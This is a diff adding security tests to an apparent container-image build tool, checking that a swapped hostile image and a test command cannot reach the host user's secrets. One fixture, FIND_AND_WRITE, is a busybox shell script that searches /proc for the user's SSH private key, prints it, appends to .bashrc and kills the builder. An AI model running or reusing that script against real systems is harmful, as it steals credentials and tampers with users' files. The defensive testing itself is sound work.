@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import ctypes
 import http.server
 import json
 import os
@@ -20,6 +21,7 @@ from pathlib import Path
 
 import pytest
 
+from factory.digest import Digest
 from factory.io import launch
 from factory.names import RegistryAddress
 from factory.recipes.epoch import epoch_of
@@ -30,7 +32,7 @@ from tests.attacks.conftest import needs_root
 from tests.attacks.git_traps import TOKEN, TRAPS, Spy, Trap, commit, git, set_trap, traps
 from tests.attacks.victim import HERE, SECRET, USER, USER_WITH_IDS, Victim, victim
 from tests.factory_project import DEFINITION, ROOT, TEST, Done, Project, push_base
-from tests.servers import PASSWORD, Server, docker_registry
+from tests.servers import PASSWORD, Server, docker_registry, tool
 from tests.servers import USER as USER_NAME
 from tests.unit.parts import candidate, report_of, write_recipe
 
@@ -259,6 +261,70 @@ def test_tests_and_inspection_of_an_image_are_started_without_the_victim_s_envir
     done = builder.run("test", "hostile")
     report = builder.folder / ".singfactory/candidates/hostile-amd64/report.json"
     assert SECRET not in report.read_text() + done.out + done.err
+
+
+FIND_AND_WRITE = """#!/bin/busybox sh
+for root in /proc/[0-9]*/root; do
+    if [ -e $root/@folder@/home/.ssh/id_ed25519 ]; then
+        /bin/busybox cat $root/@folder@/home/.ssh/id_ed25519
+        echo hacked >> $root/@folder@/home/.bashrc
+    fi
+done
+/bin/busybox kill -9 @program@
+exec /bin/busybox sh "$@"
+"""
+
+
+def test_an_image_that_was_swapped_for_another_kind_of_file_runs_nothing_on_the_host(
+    builder: Victim, tmp_path: Path
+) -> None:
+    builder.recipe("hostile", definition=post(""))
+    builder.own()
+    builder.ok("build", "--force", "hostile")
+    # What a %post leaves behind that swaps the file when the engine has written it: no SIF, so inspecting runs it.
+    program = FIND_AND_WRITE.replace("@folder@", str(builder.folder)).replace("@program@", str(builder.program))
+    root = tmp_path / "root"
+    for name in ("bin", "dev", "etc", "home", "proc", "root", "sys", "tmp", "var/tmp"):
+        (root / name).mkdir(parents=True)
+    for name in ("etc/passwd", "etc/group"):
+        (root / name).write_text("root:x:0:0:root:/root:/bin/sh\n" if name == "etc/passwd" else "root:x:0:\n")
+    shutil.copy(tool("busybox"), root / "bin/busybox")
+    (root / "bin/sh").write_text(program)
+    (root / "bin/sh").chmod(0o755)
+    folder = builder.folder / ".singfactory/candidates/hostile-amd64"
+    swapped = folder / "image.sif"
+    subprocess.run(["mksquashfs", root, swapped, "-noappend", "-quiet", "-no-progress"], check=True)
+    record = json.loads((folder / "candidate.json").read_text())
+    record |= {"sif_digest": str(Digest.of(swapped.read_bytes())), "size": swapped.stat().st_size}
+    (folder / "candidate.json").write_text(json.dumps(record))
+    builder.own()
+    done = builder.run("test", "hostile")
+    report = folder / "report.json"
+    assert SECRET not in done.out + done.err + (report.read_text() if report.exists() else "")
+    assert (builder.home / ".bashrc").read_text() == "mine\n"
+    assert Path(f"/proc/{builder.program}/stat").read_text().rpartition(")")[2].split()[0] not in "ZX"
+
+
+def test_the_keys_of_the_victim_s_session_are_not_in_reach_of_a_test(builder: Victim) -> None:
+    add_key, session = {"x86_64": 248, "aarch64": 217}[os.uname().machine], ctypes.c_int(-3)
+    name = f"singfactory-attack-{os.getpid()}".encode()
+    key = ctypes.CDLL(None).syscall(add_key, b"user", name, SECRET.encode(), len(SECRET), session)
+    if key < 0:
+        pytest.skip("this kernel keeps no keys")
+    look = f"cat /proc/keys; grep -c {name.decode()} /proc/keys; exit 1"  # whoever possesses a key sees it there
+    definition = post("    $B ln -s busybox /bin/grep")
+    builder.recipe("hostile", definition=definition, more=TEST + f'\n[[test]]\nname = "look"\nrun = "{look}"\n')
+    builder.own()
+    try:
+        builder.ok("build", "--force", "hostile")
+        builder.run("test", "hostile")
+    finally:
+        ctypes.CDLL(None).syscall({"x86_64": 250, "aarch64": 219}[os.uname().machine], 9, key, session)  # unlink
+    report = json.loads((builder.folder / ".singfactory/candidates/hostile-amd64/report.json").read_text())
+    seen = next(test["stdout"] for test in report["tests"] if test["name"] == "look")
+    assert name.decode() not in seen
+    assert "keyring   _ses" in seen  # one of its own: the session's is another one
+    assert "_ses: empty" in seen
 
 
 ABOUT = '[recipe]\nname = "bad"\nversion = "1"\n[build]\nbase = "docker://debian:12"\n'
